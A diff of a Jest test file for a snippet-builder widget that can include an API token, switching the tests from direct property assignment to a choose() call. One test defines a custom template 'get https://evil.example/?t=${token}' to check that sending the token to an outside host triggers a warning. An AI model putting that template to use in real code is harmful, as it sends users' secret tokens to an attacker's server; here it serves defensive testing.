@@ -127,7 +127,7 @@ describe('the lists', () => {
       'b'
     ]);
     expect(textOf(rendered())).not.toContain(words);
-    page.model.language = 'b';
+    page.model.choose({ language: 'b' });
     expect(textOf(rendered())).toContain(words);
   });
 });
@@ -145,7 +145,7 @@ describe('“Include the token”', () => {
   it.each<[string, () => void, string, string[]]>([
     [
       'inside the server',
-      () => (page.model.place = 'server'),
+      () => page.model.choose({ place: 'server' }),
       'It contains no token.',
       []
     ],
@@ -211,8 +211,8 @@ describe('the warnings', () => {
         }
       })
     );
-    page.model.language = 'broken';
-    page.model.includeToken = true;
+    page.model.choose({ language: 'broken' });
+    page.model.choose({ includeToken: true });
     expect(warnings()).toEqual([
       expect.stringMatching(
         `^This snippet failed\\..* Details for an issue Message No luck with ${MASK}$`
@@ -226,9 +226,9 @@ describe('the warnings', () => {
     page.set({
       custom: [{ name: 'far', code: 'get https://evil.example/?t=${token}' }]
     });
-    page.model.language = 'far';
+    page.model.choose({ language: 'far' });
     expect(warnings()).toEqual([]);
-    page.model.includeToken = true;
+    page.model.choose({ includeToken: true });
     expect(warnings()).toEqual([expect.stringContaining('evil.example')]);
   });
 
@@ -259,13 +259,13 @@ it.each([
 );
 
 it('the form never contains the token', () => {
-  page.model.includeToken = true;
+  page.model.choose({ includeToken: true });
   page.panel.set({ isTokenRevealed: true });
   expect(JSON.stringify(rendered())).not.toContain(SECRET);
 });
 
 it('the controls show the current choice', () => {
-  page.model.includeToken = true;
+  page.model.choose({ includeToken: true });
   const update = () =>
     MessageLoop.sendMessage(section, Widget.Msg.UpdateRequest);
   update();
@@ -277,7 +277,7 @@ it('the controls show the current choice', () => {
   update();
   expect(selects.map(({ value }) => value)).toEqual(['curl', 'anywhere']);
   expect(checkbox?.checked).toBe(true);
-  page.model.includeToken = false;
+  page.model.choose({ includeToken: false });
   update();
   expect(checkbox?.checked).toBe(false);
 });
@@ -294,7 +294,7 @@ describe('the buttons', () => {
   it('copy and insert are below the snippet’s note', () => {
     expect(labels()).toEqual(['Copy snippet', 'Insert into notebook']);
     expect(message()).toBe('');
-    page.model.language = 'elsewhere';
+    page.model.choose({ language: 'elsewhere' });
     expect(labels()).toEqual(['Copy snippet']);
     expect(textOf(rendered())).toContain('JSON has no comments.');
     expect(copyText).not.toHaveBeenCalled();
@@ -306,7 +306,7 @@ describe('the buttons', () => {
     expect(copyText).toHaveBeenCalledWith('curl: none');
     expect(page.inserter.insert).not.toHaveBeenCalled();
     expect(message()).toBe('Snippet copied.');
-    page.model.language = 'elsewhere';
+    page.model.choose({ language: 'elsewhere' });
     expect(message()).toBe('');
   });
 
